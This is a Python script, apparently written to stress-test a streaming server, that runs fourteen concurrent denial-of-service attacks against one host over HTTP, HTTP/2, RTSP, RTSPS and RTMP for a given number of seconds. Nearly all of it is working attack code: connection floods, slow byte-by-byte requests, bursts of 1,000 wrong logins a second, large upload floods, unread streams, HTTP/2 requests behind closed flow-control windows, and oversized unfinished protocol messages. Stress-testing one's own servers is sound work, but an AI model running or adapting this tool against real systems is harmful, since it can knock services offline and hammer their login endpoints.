#!/usr/bin/env python3
"""Attacks a server for some seconds from one address, all at once, and prints as JSON what was sent.

usage: hostile.py SERVER HTTP HTTPS RTSP RTSPS RTMP SECONDS

  crowd      10,000 connections, silent or within a request, over RTSP, HTTP, HTTPS, RTSPS and RTMP; closed ones are opened
             again
  slow       requests byte by byte over each protocol, behind a complete TLS handshake where there is one
  logins     1,000 wrong logins a second: half with passwords over RTSP, half with tokens over HTTP
  uploads    images of 8 MiB, ten a second
  streams    event streams and Motion JPEG that are not read, also a hundred on each connection of HTTP/2
  codes      new QR codes, a hundred at once on each connection of HTTP/2, and snapshots for windows that stay closed
  messages   RTSP requests with headers and a body as large as they may be, whose last byte does not come
  noise      RTMP handshakes with noise behind them, and messages as large as commands may be, whose last byte does not come

Each attack is a process, with a lower priority than the server: on two hosts it would not compete for its processors.
"""
import collections
import itertools
import json
import multiprocessing
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

from rtmp import handshake, header
from visitor import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, Visitor, basic, bearer, frame, literal

CROWD, LOGINS, SLOW, UPLOADS, STREAMS, MULTIPLEXED = 10_000, 1_000, 30, 10, 150, 40
CODES, MESSAGES, NOISES = 20, 500, 100
# Bytes of a command that the server takes at most.
COMMAND = 64 << 10


class Target(Visitor):
    def __init__(self, host, http, https, rtsp, rtsps, rtmp, end):
        super().__init__(host, http, https, rtsp)
        self.rtsps, self.rtmp, self.end = rtsps, rtmp, end

    def begin(self, port):
        """a connection that may not be complete yet"""
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((self.host, port))
        return connection

    def connect_secure(self, port):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(self.connect(port, 5))

    def lasts(self):
        return time.monotonic() < self.end


def crowd(target):
    openings = [(target.rtsp, b"OPTIONS * RTSP/1.0\r\nCS"), (target.http, b"GET / HT"), (target.https, b"\x16\x03\x01"),
                (target.rtsps, b"\x16\x03\x01"), (target.rtsp, b""), (target.http, b""), (target.https, b""),
                (target.rtmp, b"\x03"), (target.rtmp, b"")]
    poll, connections, opened, closed = select.epoll(), {}, 0, 0
    room = min(CROWD, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 100)
    while target.lasts():
        # 250 at a time, less than what servers keep in the queue of connections to accept.
        for _ in range(min(250, room - len(connections))):
            port, opening = openings[opened % len(openings)]
            connection = target.begin(port)
            connections[connection.fileno()] = connection, opening
            poll.register(connection, select.EPOLLIN | select.EPOLLOUT | select.EPOLLRDHUP)
            opened += 1
        for number, events in poll.poll(0.1, 1000):
            connection, opening = connections[number]
            if events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP | select.EPOLLIN):
                # Responses to half a request end the connection too.
                del connections[number]
                connection.close()
                closed += 1
                continue
            poll.modify(number, select.EPOLLIN | select.EPOLLRDHUP)
            try:
                connection.send(opening)
            except OSError:
                pass
    return {"sent": opened, "closed": closed, "open": len(connections)}


def drip(target, port, text, protocol=None):
    """Keeps connections of one protocol, on each of which a byte is sent from time to time."""
    def connect():
        if protocol:
            return target.connect_tls(protocol, 5)
        return target.connect_secure(port) if is_secure else target.connect(port, 5)

    is_secure = port in (target.https, target.rtsps)
    slots = [[None, b"", 0.0] for _ in range(SLOW)]
    opened, sent = 0, 0
    while target.lasts():
        for slot in slots:
            connection, rest, retry = slot
            try:
                if connection is None:
                    if time.monotonic() < retry or not target.lasts():
                        continue
                    slot[:] = [connect(), text, 0.0]
                    slot[0].setblocking(False)
                    opened += 1
                    continue
                sent += connection.send(rest[:1])
                slot[1] = rest[1:] or text
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                if connection:
                    connection.close()
                slot[:] = [None, b"", time.monotonic() + 2]
        time.sleep(0.3)
    return {"sent": opened, "bytes": sent}


HEAD = b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1000
MESSAGE = b"OPTIONS * RTSP/1.0\r\nX: " + b"x" * 1000


def slow_http(target):
    return drip(target, target.http, HEAD)


def slow_https(target):
    return drip(target, target.https, HEAD)


def slow_http2(target):
    return drip(target, target.https, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\0" * 1000), "h2")


def slow_rtsp(target):
    return drip(target, target.rtsp, MESSAGE)


def slow_rtsps(target):
    return drip(target, target.rtsps, MESSAGE)


def slow_rtmp(target):
    return drip(target, target.rtmp, b"\x03" + bytes(1536))


def logins(target):
    """Sends what is due since the begin, so that a pause is made up for, and counts the statuses."""
    url = f"rtsp://{target.host}:{target.rtsp}/live"
    statuses, connections, sent, begin = collections.Counter(), {}, 0, time.monotonic()

    def request(number):
        if number % 2:
            fields = basic(f"user{number % 40}", f"wrong{number}")
            return target.rtsp, f"DESCRIBE {url} RTSP/1.0\r\nCSeq: {number}\r\nAuthorization: {fields['Authorization']}\r\n\r\n"
        fields = bearer(f"wrong-token-{number:012}")
        return target.http, (f"GET /api/recordings HTTP/1.1\r\nHost: {target.host}\r\n"
                             f"Authorization: {fields['Authorization']}\r\n\r\n")

    while target.lasts():
        due = int((time.monotonic() - begin) * LOGINS) - sent
        for _ in range(min(due, 100)):
            port, text = request(sent)
            sent += 1
            try:
                if port not in connections:
                    connections[port] = target.connect(port, 5)
                connections[port].sendall(text.encode())
            except OSError:
                connections.pop(port, None)
        for port, connection in list(connections.items()):
            try:
                while select.select([connection], [], [], 0)[0]:
                    piece = connection.recv(65536)
                    if not piece:
                        raise OSError("closed")
                    for line in piece.split(b"\r\n"):
                        if line.startswith((b"HTTP/1.1 ", b"RTSP/1.0 ")):
                            statuses[line[9:12].decode()] += 1
            except OSError:
                connections.pop(port).close()
        time.sleep(0.01)
    return {"sent": sent} | statuses


def uploads(target):
    count, statuses, piece, size = 0, collections.Counter(), bytes(65536), 8 << 20
    head = (f"PUT /api/streams/live/effects/mask HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: image/png\r\n"
            f"Content-Length: {size}\r\n\r\n").encode()
    while target.lasts():
        begin = time.monotonic()
        try:
            with target.connect(target.http, 5) as connection:
                count += 1
                connection.sendall(head)
                for _ in range(size // len(piece)):
                    if select.select([connection], [], [], 0)[0]:
                        break
                    connection.sendall(piece)
                statuses[connection.recv(12)[9:].decode()] += 1
        except OSError:
            pass
        time.sleep(max(0, 1 / UPLOADS - (time.monotonic() - begin)))
    return {"sent": count} | statuses


def streams(target):
    requests = [f"GET {path} HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
                for path in ("/api/streams/live/events", "/live/mjpeg?width=160")]
    slots, opened = [None] * STREAMS, 0
    while target.lasts():
        for number, connection in enumerate(slots):
            if not target.lasts():
                break
            try:
                if connection is None:
                    connection = socket.socket()
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    connection.settimeout(5)
                    connection.connect((target.host, target.http))
                    connection.sendall(requests[number % len(requests)])
                    slots[number] = connection
                    opened += 1
                elif select.select([], [], [connection], 0)[2] or is_closed(connection):
                    slots[number] = None
                    connection.close()
            except OSError:
                slots[number] = None
        time.sleep(1)
    return {"sent": opened}


def hold(target, count, begin, pause):
    """Keeps connections open, and opens closed ones again, with begin(number), until the end. Returns how many began."""
    slots, opened = [None] * count, 0
    while target.lasts():
        for number, connection in enumerate(slots):
            if not target.lasts():
                break
            try:
                if connection is None:
                    slots[number] = begin(number)
                    opened += 1
                elif is_closed(connection):
                    slots[number] = None
                    connection.close()
            except OSError:
                slots[number] = None
        time.sleep(pause)
    return opened


def requests_http2(target, paths):
    """A GET of each path on a stream of its own."""
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, b"".join(
            literal(name, value) for name, value in {
                ":method": "GET", ":scheme": "https", ":authority": target.host, ":path": path}.items()))
        for number, path in enumerate(paths))


def streams_http2(target):
    requests = requests_http2(target, ["/api/streams/live/events", "/live/mjpeg?width=160"] * 50)

    def begin(_):
        connection = target.connect_tls("h2", 5)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + requests)
        return connection
    return {"sent": 100 * hold(target, MULTIPLEXED, begin, pause=0.5)}


def codes(target):
    """On every second connection the client's window is closed."""
    closed_window = struct.pack(">HI", 4, 0)
    numbers = itertools.count()

    def begin(number):
        path = "/live/snapshot.jpg?{}" if number % 2 else "/api/qr.svg?text={}-" + "x" * 400
        requests = requests_http2(target, [path.format(next(numbers)) for _ in range(100)])
        connection = target.connect_tls("h2", 5)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, closed_window if number % 2 else b"") + requests)
        return connection

    opened = 0
    while target.lasts():
        # New ones every two seconds, since the server answers these.
        round_of_two = Target(target.host, target.http, target.https, target.rtsp, target.rtsps, target.rtmp,
                              min(target.end, time.monotonic() + 2))
        opened += hold(round_of_two, CODES, begin, pause=0.5)
    return {"sent": 100 * opened}


def messages(target):
    head = b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n" + b"X: " + b"x" * 3_900 + b"\r\nX: " + b"x" * 3_900 + b"\r\n"
    head += b"Content-Length: 4096\r\n\r\n" + b"x" * 4_095

    def begin(_):
        connection = target.connect(target.rtsp, 5)
        connection.sendall(head)
        return connection
    return {"sent": hold(target, MESSAGES, begin, pause=1)}


def noise(target):
    def begin(number):
        connection = target.connect(target.rtmp, 5)
        if number % 2:
            handshake(connection)
            # In chunks of 128 bytes.
            size = COMMAND - 1
            connection.sendall(header(20, COMMAND) + b"\xc3".join(
                [bytes(min(128, size - start)) for start in range(0, size, 128)]))
        else:
            connection.sendall(b"\x03" + os.urandom(10_000))
        return connection
    return {"sent": hold(target, NOISES, begin, pause=1)}


def is_closed(connection):
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return bool(poll.poll(0))


def run(attack, target, results):
    os.nice(15)
    try:
        results.put((attack.__name__, attack(target)))
    except BaseException:
        # Without a result the caller would wait forever.
        results.put((attack.__name__, {}))
        raise


def main():
    server, *ports, seconds = sys.argv[1:]
    maximum = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (maximum, maximum))
    target = Target(server, *map(int, ports), time.monotonic() + float(seconds))
    results = multiprocessing.SimpleQueue()
    attacks = [crowd, slow_http, slow_https, slow_http2, slow_rtsp, slow_rtsps, slow_rtmp, logins, uploads, streams,
               streams_http2, codes, messages, noise]
    processes = [multiprocessing.Process(target=run, args=(attack, target, results)) for attack in attacks]
    for process in processes:
        process.start()
    found = dict(results.get() for _ in processes)
    for process in processes:
        process.join()
    print(json.dumps(found))


main()
